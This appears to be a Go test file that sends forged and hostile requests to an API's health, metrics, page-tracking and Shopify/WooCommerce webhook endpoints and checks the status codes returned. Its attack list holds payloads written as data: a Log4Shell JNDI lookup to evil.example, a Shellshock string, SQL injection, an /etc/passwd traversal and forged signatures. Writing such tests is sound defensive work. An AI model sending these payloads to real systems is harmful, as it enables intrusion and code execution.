package api_test

import "strings"

// attacksByHeaders try to be somebody else, or to have the answer say something.
func attacksByHeaders() (all []attack) {
	for _, path := range []string{"/healthz", "/readyz", "/openapi.json", "/docs"} {
		all = append(all, as(request{method: "GET", path: path},
			attack{name: "a wrong key", request: request{key: "sk_nobody"}, status: 200},
			attack{name: "a body", request: request{body: strings.Repeat("x", 5<<20)}, status: 200},
			attack{name: "a query", request: request{path: path + "?" + strings.Repeat("a=b&", 10_000)}, status: 200},
			attack{name: "another host", request: request{headers: []string{"Host: evil.example", "X-Forwarded-Host: evil.example", "Forwarded: host=evil.example"}}, status: 200},
			attack{name: "a length that is a lie", request: request{headers: []string{"Content-Length: -1", "Transfer-Encoding: chunked, identity"}}, status: 200},
		)...)
	}
	for _, headers := range [][]string{
		nil, {"X-Forwarded-For: 127.0.0.1"}, {"X-Forwarded-For: ::1", "X-Real-IP: 127.0.0.1"}, {"Forwarded: for=127.0.0.1"}, {"Host: localhost"},
	} {
		all = append(all, attack{name: "from elsewhere " + strings.Join(headers, ", "), request: request{method: "GET", path: "/metrics", headers: headers}, status: 401, code: "key_missing"})
	}
	all = append(all, as(request{method: "GET", path: "/metrics"},
		attack{name: "a write key", request: request{key: writeKey}, status: 403, code: "scope_insufficient"},
		attack{name: "a wrong key", request: request{key: "sk_nobody"}, status: 401, code: "key_unknown"},
		attack{name: "the secret key in the query", request: request{path: "/metrics?writeKey=" + secretKey}, status: 403, code: "secret_key_in_query"},
	)...)
	page := request{method: "POST", path: "/v1/page", key: writeKey, body: `{"anonymousId":"canary"}`}
	for _, headers := range [][]string{
		{"X-Forwarded-For: 127.0.0.1"}, {"X-Forwarded-For: " + strings.Repeat("1.1.1.1, ", 2000)}, {"X-Forwarded-For: '; DROP TABLE events; --"}, {"X-Real-IP: 127.0.0.1", "CF-Connecting-IP: 127.0.0.1", "True-Client-IP: 127.0.0.1"},
		{"User-Agent: " + strings.Repeat("Mozilla/5.0 ", 3000)}, {"User-Agent: \xff\xfe"}, {"User-Agent: ${jndi:ldap://evil.example/x}"}, {"User-Agent: () { :; }; echo x"},
		{"Host: evil.example"}, {"Referer: javascript:alert(1)"}, {"Content-Type: ../../etc/passwd"}, {"Content-Type: multipart/form-data; boundary=x"}, {"Accept: */*;q=nan"}, {"Accept-Encoding: gzip;q=-1, *"},
		{"DNT: 2", "Sec-GPC: x"}, {"Cookie: " + strings.Repeat("a=b; ", 2000)}, {"Range: bytes=0-0, -1, 5-2"}, {"Expect: 200-maybe"}, {"If-None-Match: *"}, {"If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT"},
		{"Origin: https://evil.example"}, {"Origin: null"}, {"Origin: https://evil.example", "Access-Control-Request-Headers: x"}, {"X-HTTP-Method-Override: DELETE"}, {"Upgrade: websocket", "Connection: Upgrade"}, {"Connection: close, Authorization"},
	} {
		all = append(all, as(page, attack{name: headers[0][:min(len(headers[0]), 50)] + " " + strings.Join(headers[1:], " "), request: request{headers: headers}, status: 200, accepted: 1})...)
	}
	return all
}

// attacksByWebhooks forge what platforms send.
func attacksByWebhooks() (all []attack) {
	const body = `{"id":820982911946154508,"email":"jon@example.com"}`
	for _, p := range []struct{ path, signature, topic, secret string }{
		{"/v1/inbound/shopify", "X-Shopify-Hmac-Sha256: ", "X-Shopify-Topic: orders/create", "new-shopify"},
		{"/v1/inbound/woocommerce", "X-WC-Webhook-Signature: ", "X-WC-Webhook-Topic: order.created", "woo"},
	} {
		post := request{method: "POST", path: p.path, body: body, headers: []string{p.topic}}
		signed := func(secret, text string) []string { return []string{p.signature + sign(secret, text)} }
		all = append(all, as(post,
			attack{name: "no signature", status: 401, code: "signature_missing"},
			attack{name: "no signature but the secret key", request: request{key: secretKey}, status: 401, code: "signature_missing"},
			attack{name: "an empty signature", request: request{headers: []string{p.signature}}, status: 401, code: "signature_missing"},
			attack{name: "rubbish for a signature", request: request{headers: []string{p.signature + "rubbish!"}}, status: 401, code: "signature_invalid"},
			attack{name: "a signature with another secret", request: request{headers: signed("guess", body)}, status: 401, code: "signature_invalid"},
			attack{name: "a signature with no secret", request: request{headers: signed("", body)}, status: 401, code: "signature_invalid"},
			attack{name: "the signature of another body", request: request{headers: signed(p.secret, body+" ")}, status: 401, code: "signature_invalid"},
			attack{name: "half a signature", request: request{headers: []string{p.signature + sign(p.secret, body)[:20]}}, status: 401, code: "signature_invalid"},
			attack{name: "a signature twice, the first counts", request: request{headers: append([]string{p.signature + "AAAA"}, signed(p.secret, body)...)}, status: 401, code: "signature_invalid"},
			attack{name: "signed, but no JSON", request: request{body: "{", headers: signed(p.secret, "{")}, status: 400, code: "invalid_json"},
			attack{name: "signed, but no UTF-8", request: request{body: "{\"a\":\"\xff\"}", headers: signed(p.secret, "{\"a\":\"\xff\"}")}, status: 400, code: "invalid_json"},
			attack{name: "5 MB", request: request{body: strings.Repeat(" ", 5<<20)}, status: 413, code: "too_large"},
			attack{name: "another encoding", request: request{headers: append(signed(p.secret, body), "Content-Encoding: br")}, status: 415, code: "encoding_unsupported"},
		)...)
		all = append(all, attack{name: "signed, about nothing", request: request{method: "POST", path: p.path, body: body, headers: signed(p.secret, body)}, status: 400, code: "topic_missing"})
	}
	return all
}
